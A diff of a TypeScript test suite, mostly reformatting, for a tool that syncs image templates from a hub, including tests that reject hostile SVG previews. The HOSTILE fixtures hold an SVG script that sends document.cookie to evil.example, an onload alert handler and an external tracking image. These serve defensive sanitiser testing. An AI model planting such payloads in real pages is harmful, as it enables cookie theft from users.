@@ -34,7 +34,12 @@ describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
 
   beforeAll(async () => {
     from = await proxy.start();
-    const imported = await libraryAdmin(lane, 'POST', '/import', templatePack(['a', 'b', 'c'].map((name) => ({ slug: `${tag}-${name}`, title: `Sync ${name}` }))));
+    const imported = await libraryAdmin(
+      lane,
+      'POST',
+      '/import',
+      templatePack(['a', 'b', 'c'].map((name) => ({ slug: `${tag}-${name}`, title: `Sync ${name}` }))),
+    );
     for (const item of imported.body.created) ids[item.slug.slice(tag.length + 1)] = item.id;
   });
 
@@ -53,11 +58,16 @@ describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
     for (const entry of manifest.items.templates) {
       const saved = readJson(join(dir, 'templates', `${entry.id}.json`));
       expect(saved.hash).toBe(entry.hash);
-      const preview = readFileSync(join(dir, 'files', `${Buffer.from(saved.files['preview.svg'].hash.slice(7), 'base64').toString('hex')}.svg`));
+      const preview = readFileSync(
+        join(dir, 'files', `${Buffer.from(saved.files['preview.svg'].hash.slice(7), 'base64').toString('hex')}.svg`),
+      );
       expect(`sha256-${createHash('sha256').update(preview).digest('base64')}`).toBe(saved.files['preview.svg'].hash);
     }
     expect(existsSync(join(dir, 'manifest.json'))).toBe(true);
-    const types = new Set([...manifest.items.samples.map((entry: { type: string }) => `samples/${entry.type}`), ...manifest.items.assets.map((entry: { type: string }) => `assets/${entry.type}`)]);
+    const types = new Set([
+      ...manifest.items.samples.map((entry: { type: string }) => `samples/${entry.type}`),
+      ...manifest.items.assets.map((entry: { type: string }) => `assets/${entry.type}`),
+    ]);
     const paths = proxy.paths();
     expect(paths[0]).toBe(MANIFEST_PATH);
     expect(paths.filter((path) => path.startsWith(`${LIBRARY}/image-templates/`))).toHaveLength(manifest.counts.templates);
@@ -129,7 +139,8 @@ describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
 
   it('refuses a manifest that does not match its own hash', async () => {
     proxy.dropConditional = true;
-    proxy.tamper = (path, body) => (path === MANIFEST_PATH ? body.replace(/"version":(\d+)/, (_whole, version) => `"version":${Number(version) + 5}`) : body);
+    proxy.tamper = (path, body) =>
+      path === MANIFEST_PATH ? body.replace(/"version":(\d+)/, (_whole, version) => `"version":${Number(version) + 5}`) : body;
     const run = await sync();
     proxy.tamper = null;
     proxy.dropConditional = false;
@@ -147,9 +158,18 @@ describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
 describe('library sync from a hub serving hostile SVG', () => {
   const CLEAN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><rect width="100" height="100" fill="#ff7a59"/></svg>';
   const HOSTILE: Record<string, { svg: string; removed: string }> = {
-    script: { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>', removed: 'script' },
-    handler: { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="alert(1)"><rect width="1" height="1"/></svg>', removed: 'event handler' },
-    external: { svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"><image width="100" height="100" xlink:href="https://evil.example/track.png"/></svg>', removed: 'external reference' },
+    script: {
+      svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>',
+      removed: 'script',
+    },
+    handler: {
+      svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="alert(1)"><rect width="1" height="1"/></svg>',
+      removed: 'event handler',
+    },
+    external: {
+      svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"><image width="100" height="100" xlink:href="https://evil.example/track.png"/></svg>',
+      removed: 'external reference',
+    },
   };
   const files = new Map<string, Buffer>();
   const routes = new Map<string, string>();
@@ -162,12 +182,33 @@ describe('library sync from a hub serving hostile SVG', () => {
     const bytes = Buffer.from(svg);
     const hex = createHash('sha256').update(bytes).digest('hex');
     files.set(`/files/${hex}.svg`, bytes);
-    const fields = { slug: `hostile-${name}`, title: `Hostile ${name}`, category: 'social-post', type: 'instagram-post', tags: [], width: 1080, height: 1080, format: 'png', definition: { schema: 1, background: '#ffffff', layers: [] } };
+    const fields = {
+      slug: `hostile-${name}`,
+      title: `Hostile ${name}`,
+      category: 'social-post',
+      type: 'instagram-post',
+      tags: [],
+      width: 1080,
+      height: 1080,
+      format: 'png',
+      definition: { schema: 1, background: '#ffffff', layers: [] },
+    };
     const file = { hash: integrity(bytes), length: bytes.length, media_type: 'image/svg+xml', url: `${from}/files/${hex}.svg` };
     const hash = itemHash('template', fields, { 'preview.svg': file.hash });
     const id = `tpl_01JHOSTILE${String(index).padStart(16, '0')}`;
     ids[name] = id;
-    routes.set(`/wp-json/svc/v1/image-templates/${id}`, JSON.stringify({ id, ...fields, preview_url: file.url, files: { 'preview.svg': file }, version: 1, hash, updated_at: '2026-11-24T00:00:00.000Z' }));
+    routes.set(
+      `/wp-json/svc/v1/image-templates/${id}`,
+      JSON.stringify({
+        id,
+        ...fields,
+        preview_url: file.url,
+        files: { 'preview.svg': file },
+        version: 1,
+        hash,
+        updated_at: '2026-11-24T00:00:00.000Z',
+      }),
+    );
     return { id, slug: fields.slug, hash, version: 1, updated_at: '2026-11-24T00:00:00.000Z' };
   }
 
@@ -182,8 +223,14 @@ describe('library sync from a hub serving hostile SVG', () => {
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     from = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-    const entries = [template('clean', 0, CLEAN), ...Object.entries(HOSTILE).map(([name, { svg }], index) => template(name, index + 1, svg))];
-    routes.set('/wp-json/svc/v1/image-library/manifest', JSON.stringify(buildManifest(3, new Date('2026-11-24T00:00:00.000Z'), { templates: entries, samples: [], assets: [] })));
+    const entries = [
+      template('clean', 0, CLEAN),
+      ...Object.entries(HOSTILE).map(([name, { svg }], index) => template(name, index + 1, svg)),
+    ];
+    routes.set(
+      '/wp-json/svc/v1/image-library/manifest',
+      JSON.stringify(buildManifest(3, new Date('2026-11-24T00:00:00.000Z'), { templates: entries, samples: [], assets: [] })),
+    );
   });
 
   afterAll(async () => {
@@ -195,7 +242,9 @@ describe('library sync from a hub serving hostile SVG', () => {
     const run = await runLibrarySync(from, dir);
     expect(run.status).toBe(1);
     for (const [name, { removed }] of Object.entries(HOSTILE)) {
-      expect(run.stderr).toContain(`refused ${ids[name]} (hostile-${name}): file preview.svg is not sanitised SVG (an import would remove: `);
+      expect(run.stderr).toContain(
+        `refused ${ids[name]} (hostile-${name}): file preview.svg is not sanitised SVG (an import would remove: `,
+      );
       expect(run.stderr).toMatch(new RegExp(`refused ${ids[name]} [^\\n]*${removed}`));
       expect(existsSync(join(dir, 'templates', `${ids[name]}.json`))).toBe(false);
     }
@@ -212,7 +261,12 @@ describe('library sync from a hub serving hostile SVG', () => {
     const hex = createHash('sha256').update(bytes).digest('hex');
     const statePath = join(dir, '.svc-library-sync.json');
     const state = readJson(statePath);
-    state.items[ids.script!] = { kind: 'template', slug: 'hostile-script', hash: JSON.parse(routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!).hash, files: [hex] };
+    state.items[ids.script!] = {
+      kind: 'template',
+      slug: 'hostile-script',
+      hash: JSON.parse(routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!).hash,
+      files: [hex],
+    };
     writeFileSync(statePath, JSON.stringify(state));
     writeFileSync(join(dir, 'files', `${hex}.svg`), bytes);
     writeFileSync(join(dir, 'templates', `${ids.script}.json`), routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!);
